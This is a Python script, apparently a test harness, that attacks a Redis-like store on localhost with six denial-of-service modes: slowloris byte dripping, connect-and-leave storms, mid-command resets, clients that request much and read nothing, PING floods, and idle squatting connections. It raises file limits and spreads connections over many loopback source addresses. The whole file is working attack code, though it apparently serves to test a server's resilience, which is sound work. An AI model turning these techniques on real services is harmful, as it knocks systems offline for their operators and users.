#!/usr/bin/python3
"""An attack on a store: `attacker.py KIND PORT COUNT [INTERVAL]`.

  slowloris   COUNT connections, each of which sends a byte every INTERVAL s
  leave       connects and ends, again and again; COUNT are the first
  reset       the same, in the middle of a command, by a reset
  deaf        COUNT connections that ask for much and read nothing
  flood       COUNT connections in all, many at a time, that want an answer
              and then keep their place for INTERVAL s
  squat       COUNT connections that stay

Prints a line when the attack stands, for `flood` when all are done.  Goes on
until the standard input has a line, or ends; then all go, and it prints what
became of them."""
import json
import os
import resource
import select
import socket
import struct
import sys
import time

os.nice(19)  # in truth it is on another machine
KIND, PORT, COUNT = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
INTERVAL = float(sys.argv[4]) if len(sys.argv) > 4 else 5
AT_ONCE = 200   # connections that are being made
OPEN = 1200     # at a time, of a flood: the kernel's queue forgets who waits
                # when it is longer than its backlog
FRAME = b"*3\r\n$3\r\nSET\r\n$1\r\nx\r\n$1000000\r\n"
GREEDY = b"GET big\r\n" * 1000
SOURCES = 200   # addresses: each has ports of its own


class Connections:
    """Non-blocking ones, by descriptor, with what has come of them."""

    def __init__(self):
        self.poll, self.socks, self.made = select.epoll(), {}, 0
        self.counts = dict.fromkeys(("connected", "answered", "lost"), 0)

    def connect(self, receive=None):
        sock = socket.socket()
        sock.setblocking(False)
        if receive:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive)
        sock.setsockopt(socket.IPPROTO_IP, 24, 1)  # IP_BIND_ADDRESS_NO_PORT
        sock.bind((f"127.0.1.{1 + self.made % SOURCES}", 0))
        self.made += 1
        sock.connect_ex(("127.0.0.1", PORT))
        self.socks[sock.fileno()] = sock
        self.poll.register(sock, select.EPOLLOUT)

    def drop(self, number, hard=False):
        sock = self.socks.pop(number)
        if hard:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER,
                            struct.pack("ii", 1, 0))
        sock.close()

    def lose(self, number):
        self.counts["lost"] += 1
        self.drop(number)

    def end(self):
        for number in list(self.socks):
            self.drop(number)


def told_to_stop(seconds=0):
    return bool(select.select([sys.stdin], [], [], seconds)[0])


def stands():
    print("stands", flush=True)


def open_all(all_, first, receive=None):
    """Make COUNT connections, and send FIRST on each: their numbers."""
    numbers, waiting = [], 0
    while len(numbers) + all_.counts["lost"] < COUNT:
        while waiting < AT_ONCE and all_.made < COUNT:
            all_.connect(receive)
            waiting += 1
        for number, event in all_.poll.poll(0.1):
            waiting -= 1
            try:
                all_.socks[number].send(first)
            except BlockingIOError:
                pass
            except OSError:
                all_.lose(number)
                continue
            all_.poll.unregister(number)
            numbers.append(number)
            all_.counts["connected"] += 1
        if told_to_stop():
            break
    return numbers


def drip(all_, numbers, at):
    """A byte more from each: that AT of the frame, and then any."""
    byte = FRAME[at:at + 1] or b"x"
    for number in list(numbers):
        try:
            all_.socks[number].send(byte)
        except OSError:
            numbers.remove(number)
            all_.lose(number)


def slowloris(all_):
    numbers, at = open_all(all_, FRAME[:1]), 1
    stands()
    while not told_to_stop(INTERVAL):
        drip(all_, numbers, at)
        at += 1


def hold(all_, first, receive=None):
    open_all(all_, first, receive)
    stands()
    sys.stdin.readline()


def storm(all_, hard):
    """Come and go; HARD, by a reset within a command."""
    told = False
    while not told_to_stop():
        while len(all_.socks) < AT_ONCE:
            all_.connect()
        for number, _ in all_.poll.poll(0.1):
            try:
                if hard:
                    all_.socks[number].send(FRAME[:-5])
                all_.counts["connected"] += 1
                all_.drop(number, hard)
            except OSError:
                all_.lose(number)
        if not told and all_.counts["connected"] >= COUNT:
            told = True
            stands()


def answer(all_, number, event, leaving):
    """Go on with one of a flood's, which has EVENT."""
    sock = all_.socks[number]
    try:
        if event & select.EPOLLIN:
            if sock.recv(100) != b"+PONG\r\n":
                raise OSError("not the answer")
            all_.counts["answered"] += 1
            all_.poll.unregister(number)
            leaving.append((time.monotonic() + INTERVAL, number))
        else:
            sock.send(b"PING\r\n")
            all_.counts["connected"] += 1
            all_.poll.modify(number, select.EPOLLIN)
    except OSError:
        all_.lose(number)


def flood(all_):
    leaving = []
    while all_.made < COUNT or all_.socks:
        for _ in range(AT_ONCE):
            if all_.made < COUNT and len(all_.socks) < OPEN:
                all_.connect()
        for number, event in all_.poll.poll(0.02):
            answer(all_, number, event, leaving)
        now = time.monotonic()
        while leaving and leaving[0][0] <= now:
            all_.drop(leaving.pop(0)[1])
        if told_to_stop():
            return
    stands()
    sys.stdin.readline()


def main():
    limit = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (limit, limit))
    all_ = Connections()
    kinds = {"slowloris": slowloris, "flood": flood,
             "deaf": lambda c: hold(c, GREEDY, 4096),
             "squat": lambda c: hold(c, b"PING\r\n"),
             "leave": lambda c: storm(c, False),
             "reset": lambda c: storm(c, True)}
    kinds[KIND](all_)
    all_.end()
    print(json.dumps(all_.counts), flush=True)


if __name__ == "__main__":
    main()
